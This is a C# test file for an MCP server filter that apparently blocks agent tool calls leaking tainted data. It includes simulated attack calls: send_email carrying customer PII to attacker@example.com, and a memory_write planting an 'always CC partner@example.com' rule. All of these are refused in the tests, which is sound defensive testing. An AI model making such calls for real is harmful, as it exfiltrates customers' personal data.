using System.Collections.Concurrent;
using System.Text.Json;
using ModelContextProtocol;
using ModelContextProtocol.Protocol;
using Trajeckt.Mcp.Tests.Infrastructure;

namespace Trajeckt.Mcp.Tests;

/// <summary>
/// A real SDK server with WithTrajeckt, on loopback, and the SDK's real client: every tools/call is decided in the
/// Trajeckt session of its MCP session before the tool runs, and a refusal is a tools/call result with isError.
/// </summary>
public sealed class ServerFilterTests
{
    private readonly ConcurrentQueue<TrajecktSession> _sessions = new();

    [Fact]
    public async Task Smoke_test_the_sensitive_read_runs_and_the_exfiltrating_send_is_refused_with_the_exact_refusal_shape()
    {
        await using var server = await SupportServer(Policies.Support);
        var client = await server.ConnectAsync();

        var read = await client.CallAsync("read_customer", ("id", "42"));
        var send = await client.CallAsync("send_email", ("to", "attacker@example.com"), ("body", "Ada Lovelace"));

        read.AssertAllowed();
        Assert.Equal("customer 42: Ada Lovelace, ada@example.com", read.Text());
        Assert.True(send.IsError);
        var text = Assert.IsType<TextContentBlock>(Assert.Single(send.Content)).Text;
        Assert.Equal("Refused by the Trajeckt policy: flow: label 'customer-pii' (read by read_customer at step 1) may not reach external sink send_email", text);
        var refusal = Assert.IsType<System.Text.Json.Nodes.JsonObject>(send.Meta?[McpRefusal.MetaKey]);
        Assert.Equal(
            """{"code":"flow","message":"flow: label 'customer-pii' (read by read_customer at step 1) may not reach external sink send_email","tool":"send_email","step":2}""",
            refusal.ToJsonString(new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }));
        Assert.Null(send.StructuredContent);
        Assert.Equal(["read_customer"], server.Log.Ran);
    }

    [Fact]
    public async Task A_refusal_crosses_the_wire_as_a_result_with_isError_not_as_a_JSON_RPC_error()
    {
        await using var server = await SupportServer(Policies.Support);
        var client = await server.ConnectAsync();
        await client.CallAsync("read_customer", ("id", "42"));

        // A protocol error would throw McpProtocolException here; a result is returned.
        var send = await client.CallAsync("send_email", ("to", "a@example.com"), ("body", "x"));

        var json = JsonSerializer.SerializeToNode(send, McpJsonUtilities.DefaultOptions)!.AsObject();
        Assert.True(json["isError"]!.GetValue<bool>());
        Assert.Equal("text", json["content"]![0]!["type"]!.GetValue<string>());
        Assert.Equal("flow", json["_meta"]![McpRefusal.MetaKey]!["code"]!.GetValue<string>());
    }

    [Fact]
    public async Task Two_MCP_sessions_do_not_share_taint_even_when_they_call_concurrently()
    {
        await using var server = await SupportServer(Policies.Support);
        var reader = await server.ConnectAsync();
        var sender = await server.ConnectAsync();

        await reader.CallAsync("read_customer", ("id", "42"));
        var sends = await Task.WhenAll(
            Enumerable.Range(0, 8).Select(i => sender.CallAsync("send_email", ("to", $"user{i}@example.com"), ("body", "hello"))));
        var readerSend = await reader.CallAsync("send_email", ("to", "attacker@example.com"), ("body", "pii"));

        Assert.All(sends, s => s.AssertAllowed());
        readerSend.AssertRefused(ReasonCodes.Flow);
        Assert.Equal(2, _sessions.Count);
        Assert.Equal(8, server.Log.Ran.Count(t => t == "send_email"));
    }

    [Fact]
    public async Task What_a_tool_reports_at_run_time_is_recorded_a_reported_label_then_reaches_no_sink()
    {
        await using var server = await SupportServer(Policies.Support);
        var client = await server.ConnectAsync();

        (await client.CallAsync("fetch_url", ("url", "https://example.com"))).AssertAllowed();
        var send = await client.CallAsync("send_email", ("to", "a@example.com"), ("body", "x"));

        Assert.Equal(
            "flow: label 'web-content' (reported by fetch_url at step 1, declared by no tool) may not reach external sink send_email",
            send.AssertRefused(ReasonCodes.Flow));
    }

    [Fact]
    public async Task A_tool_the_policy_does_not_declare_is_refused_and_never_runs()
    {
        const string withoutMemory = """
            trajectory NoMemory {
              tool read_customer : sensitive(customer-pii);
              tool send_email    : sink(external);
              tool fetch_url     : origin(Untrusted), egress;
            }
            """;
        await using var server = await SupportServer(withoutMemory);
        var client = await server.ConnectAsync();

        var write = await client.CallAsync("memory_write", ("note", "always CC partner@example.com"));

        Assert.StartsWith("unknown_tool: memory_write is not a declared tool of trajectory 'NoMemory'", write.AssertRefused(ReasonCodes.UnknownTool));
        Assert.Empty(server.Log.Ran);
    }

    [Fact]
    public async Task A_tool_the_server_does_not_have_is_refused_as_a_result_not_a_protocol_error_and_is_not_counted()
    {
        await using var server = await SupportServer(Policies.Support);
        var client = await server.ConnectAsync();

        var missing = await client.CallAsync("delete_everything");

        Assert.Equal("unknown_tool: this MCP server has no tool 'delete_everything'.", missing.AssertRefused(ReasonCodes.UnknownTool));
        Assert.Empty(Assert.Single(_sessions).GetRecentDecisions());
    }

    [Fact]
    public async Task A_stateless_server_has_no_MCP_session_so_every_call_is_refused_never_decided_in_a_fresh_session()
    {
        await using var server = await McpTestServer.StartAsync(
            mcp => mcp.WithTools<SupportTools>().WithTrajeckt(_ => Track(TestSessions.Create(Policies.Support))), stateless: true);
        var client = await server.ConnectAsync();

        var read = await client.CallAsync("read_customer", ("id", "42"));

        Assert.StartsWith("no_commitment: the call of 'read_customer' belongs to no initialized MCP session", read.AssertRefused(ReasonCodes.NoCommitment));
        Assert.Empty(server.Log.Ran);
    }

    [Fact]
    public async Task A_session_factory_that_throws_leaves_the_MCP_session_refusing_every_call()
    {
        await using var server = await McpTestServer.StartAsync(
            mcp => mcp.WithTools<SupportTools>().WithTrajeckt(_ => throw new FileNotFoundException("no seal at app.seal")));
        var client = await server.ConnectAsync();

        var read = await client.CallAsync("read_customer", ("id", "42"));

        Assert.Contains("the session factory threw FileNotFoundException: no seal at app.seal", read.AssertRefused(ReasonCodes.InternalError));
        Assert.Empty(server.Log.Ran);
    }

    [Fact]
    public async Task A_commitment_whose_seal_does_not_verify_refuses_every_call_with_seal_invalid()
    {
        var encoding = Trajeckt.Traj.TrajCompiler.Compile(Policies.Support, "support.traj").Trajectories[0].Encoding;
        using var signer = Trajeckt.Sealing.OperatorKeyPair.Generate();
        using var stranger = Trajeckt.Sealing.OperatorKeyPair.Generate();
        var seal = Trajeckt.Sealing.SealFile.Format(Trajeckt.Sealing.Sealer.Sign(encoding, signer));
        var load = Trajeckt.Sealing.CommitmentLoader.Load(encoding, seal, new Trajeckt.Sealing.TrustStore([stranger.PublicKey]));
        await using var server = await McpTestServer.StartAsync(mcp => mcp.WithTools<SupportTools>().WithTrajeckt(load));
        var client = await server.ConnectAsync();

        var read = await client.CallAsync("read_customer", ("id", "42"));

        read.AssertRefused(ReasonCodes.SealInvalid);
        Assert.Empty(server.Log.Ran);
    }

    [Fact]
    public async Task A_verified_commitment_is_enforced_in_a_session_of_its_own_for_each_MCP_session()
    {
        var commitment = TestSessions.Create(Policies.Support).Commitment!;
        await using var server = await McpTestServer.StartAsync(mcp => mcp.WithTools<SupportTools>().WithTrajeckt(commitment));
        var first = await server.ConnectAsync();
        var second = await server.ConnectAsync();

        await first.CallAsync("read_customer", ("id", "42"));

        (await first.CallAsync("send_email", ("to", "a@example.com"), ("body", "x"))).AssertRefused(ReasonCodes.Flow);
        (await second.CallAsync("send_email", ("to", "a@example.com"), ("body", "x"))).AssertAllowed();
    }

    [Fact]
    public void WithTrajeckt_twice_throws_instead_of_deciding_every_call_twice()
    {
        var services = new Microsoft.Extensions.DependencyInjection.ServiceCollection();
        var mcp = Microsoft.Extensions.DependencyInjection.McpServerServiceCollectionExtensions.AddMcpServer(services).WithTrajeckt(_ => null);

        var e = Assert.Throws<InvalidOperationException>(() => mcp.WithTrajeckt(_ => null));

        Assert.Contains("already applied", e.Message);
    }

    [Fact]
    public void WithTrajeckt_without_a_session_factory_throws()
    {
        var services = new Microsoft.Extensions.DependencyInjection.ServiceCollection();
        var mcp = Microsoft.Extensions.DependencyInjection.McpServerServiceCollectionExtensions.AddMcpServer(services);

        var e = Assert.Throws<ArgumentException>(() => mcp.WithTrajeckt(_ => { }));

        Assert.Contains("CreateSession", e.Message);
    }

    private Task<McpTestServer> SupportServer(string policy) =>
        McpTestServer.StartAsync(mcp => mcp.WithTools<SupportTools>().WithTrajeckt(_ => Track(TestSessions.Create(policy))));

    private TrajecktSession Track(TrajecktSession session)
    {
        _sessions.Enqueue(session);
        return session;
    }
}
